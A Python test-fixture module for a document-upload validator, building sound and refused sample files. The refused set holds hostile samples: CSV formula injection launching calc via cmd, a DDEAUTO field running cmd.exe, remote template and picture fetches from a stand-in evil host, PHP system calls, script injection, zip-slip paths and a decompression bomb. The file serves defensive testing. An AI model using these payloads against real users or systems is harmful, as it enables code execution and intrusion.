"""Files that somebody may upload as a document: sound ones, and what is none or may run."""

import io
import zipfile

TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="xml" ContentType="application/xml"/></Types>'
)
ODT_TYPE = "application/vnd.oasis.opendocument.text"


def packed(**parts):
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return file.getvalue()


def docx(**parts):
    return packed(**{"[Content_Types].xml": TYPES, "word/document.xml": "<w/>"} | parts)


def odt(**parts):
    return packed(**{"mimetype": ODT_TYPE, "content.xml": "<o/>"} | parts)


def encrypted(content):
    """Return an archive whose parts say that they are encrypted."""
    own = bytearray(content)
    for mark, place in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = own.find(mark)
        while start >= 0:
            own[start + place] |= 1
            start = own.find(mark, start + 4)
    return bytes(own)


def related(kind, mode="External", encoding="utf-8", target="https://evil.invalid/x"):
    """Return a DOCX with a relationship, and how it may be written."""
    xml = (
        f'<?xml version="1.0" encoding="{encoding}"?><Relationships xmlns="r"><Relationship '
        f'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}" TargetMode="{mode}"/></Relationships>'
    )
    return docx(**{"word/_rels/document.xml.rels": xml.encode(encoding)})


def damaged(content):
    """Return an archive of which one compressed part cannot be unpacked."""
    place = content.find(TYPES_NAME) + len(TYPES_NAME) + 8
    return (
        content[:place]
        + bytes(byte ^ 255 for byte in content[place : place + 8])
        + content[place + 8 :]
    )


def field(instruction):
    """Return a DOCX whose text has a field."""
    xml = f'<w:d xmlns:w="w"><w:instrText>{instruction}</w:instrText></w:d>'
    return docx(**{"word/document.xml": xml})


def linked(element, href):
    """Return an ODT with an element that has an address."""
    names = 'xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:t="t"'
    return odt(**{"content.xml": f'<o {names}><t:{element} xlink:href="{href}"/></o>'})


MACRO_TYPE = "application/vnd.ms-word.document.macroEnabled.main+xml"
TYPES_NAME = b"[Content_Types].xml"
SCRIPT = "<script>window.pwned=1</script>"
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj<</Type/Catalog>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF"

SOUND = {
    "verdict.pdf": PDF,
    "VERDICT.PDF": PDF,
    "letter.docx": docx(),
    "letter.odt": odt(),
    "link.docx": related("hyperlink"),
    "picture.docx": related("image", mode="Internal", target="media/image1.png"),
    "page-number.docx": field("PAGE \\* MERGEFORMAT"),
    "link.odt": linked("a", "https://example.org/"),
    "picture.odt": linked("image", "Pictures/1.png"),
    "notes.txt": "Вельмішаноўны спадар, 1 < 2 & 3 > 2".encode(),
    "notes-with-mark.txt": "\ufeffЗаметки".encode(),
    "prisoners.csv": "name,day,sum\nБяляцкі,2021-07-14,-5\nX,,+375 17 222\n".encode(),
    "semicolons.csv": b"name;days\nX;-5,5\n",
}

REFUSED = {
    "nothing.pdf": b"",
    "nothing.txt": b"",
    "page.html": SCRIPT.encode(),
    "page.htm": SCRIPT.encode(),
    "page.xhtml": SCRIPT.encode(),
    "drawing.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='x'/>",
    "script.js": b"window.pwned=1",
    "script.php": b"<?php system('id') ?>",
    "script.sh": b"#!/bin/sh\nid\n",
    "program.exe": b"MZ" + bytes(100),
    "program.pdf.exe": b"MZ" + bytes(100),
    "program.pdf": b"MZ" + bytes(100),
    "page.pdf": SCRIPT.encode(),
    "page-first.pdf": SCRIPT.encode() + PDF,
    "page.txt": f"Hello {SCRIPT}".encode(),
    "doctype.txt": b"<!DOCTYPE html><p>x",
    "drawing.txt": b"<svg onload=x>",
    "xml.txt": b"<?xml version='1.0'?><x/>",
    "shell.txt": b"#!/bin/sh\nid\n",
    "binary.txt": bytes(range(256)),
    "nul.txt": b"a\0b",
    "utf-16.txt": "Текст".encode("utf-16"),
    "cp1251.txt": "Тэкст ліста".encode("cp1251", "replace"),
    "formula.csv": b"name,sum\nX,=1+1\n",
    "command.csv": b"=cmd|' /C calc'!A0\n",
    "plus.csv": b"name\n+1+cmd|' /C calc'!A0\n",
    "minus.csv": b"name\n-2+3+cmd|' /C calc'!A0\n",
    "at.csv": b"name\n@SUM(1)\n",
    "quoted.csv": b'name\n"=1+1"\n',
    "blank-before.csv": b'name\n" =1+1"\n',
    "tab-before.csv": b'name\n"\t=1+1"\n',
    "semicolon.csv": b"name;sum\nX;=1+1\n",
    "bar.csv": b"name|sum\nX|=1+1\n",
    "sep.csv": b"sep=!\nname!=1+1\n",
    "wide.csv": "name\n＝1+1\n".encode(),
    "page.csv": SCRIPT.encode(),
    "macros.docm": docx(**{"word/vbaProject.bin": b"x"}),
    "macros.docx": docx(**{"word/vbaProject.bin": b"x"}),
    "macros-elsewhere.docx": docx(**{"customXml/VBAPROJECT.BIN": b"x"}),
    "macro-named.docx": docx(
        **{"[Content_Types].xml": TYPES.replace("application/xml", MACRO_TYPE)}
    ),
    "template.docx": docx(
        **{
            "word/_rels/settings.xml.rels": '<Relationship Type="…/attachedTemplate" '
            'Target="https://evil.invalid/x.dotm" TargetMode="External"/>'
        }
    ),
    "template-utf-16.docx": related("attachedTemplate", encoding="utf-16"),
    "template-spelt.docx": related("attached&#84;emplate"),
    "picture-elsewhere.docx": related("image"),
    "frame-elsewhere.docx": related("frame"),
    "page-inside.docx": related("aFChunk", mode="Internal", target="x.htm"),
    "field-fetches.docx": field("INCLUDEPICTURE https://evil.invalid/x.png"),
    "field-runs.docx": field("DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe"),
    "entities.docx": docx(**{"word/document.xml": "<!DOCTYPE d [<!ENTITY a 'x'>]><w>&a;</w>"}),
    "broken.docx": docx(**{"word/document.xml": "<w>"}),
    "damaged.docx": damaged(docx()),
    "picture-elsewhere.odt": linked("image", "https://evil.invalid/x.png"),
    "script-link.odt": linked("a", "vnd.sun.star.script:x"),
    "listener.odt": odt(**{"content.xml": '<o xmlns:s="s"><s:event-listener/></o>'}),
    "object.docx": docx(**{"word/embeddings/oleObject1.bin": b"x"}),
    "control.docx": docx(**{"word/activeX/activeX1.xml": b"x"}),
    "program.docx": docx(**{"word/media/x.exe": b"MZ"}),
    "climbing.docx": docx(**{"../../evil": b"x"}),
    "encrypted.docx": encrypted(docx()),
    "archive.docx": packed(**{"a.txt": "x"}),
    "text.docx": b"Only text",
    "truncated.docx": docx()[:100],
    "bomb.docx": docx(**{"word/media/x.png": bytes(210 * 2**20)}),
    "many.docx": docx(**{f"word/media/{number}.png": b"" for number in range(2_100)}),
    "old.doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
    "old.docx": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500),
    "sheet.odt": odt(mimetype="application/vnd.oasis.opendocument.spreadsheet"),
    "macros.odt": odt(**{"Basic/Standard/Module1.xml": "x"}),
    "scripts.odt": odt(**{"Scripts/python/x.py": "x"}),
    "letter-named.pdf": docx(),
    "pdf-named.docx": PDF,
    "picture.pdf": b"\x89PNG\r\n\x1a\n",
    "no-extension": PDF,
    "large.pdf": PDF + bytes(20 * 2**20),
}
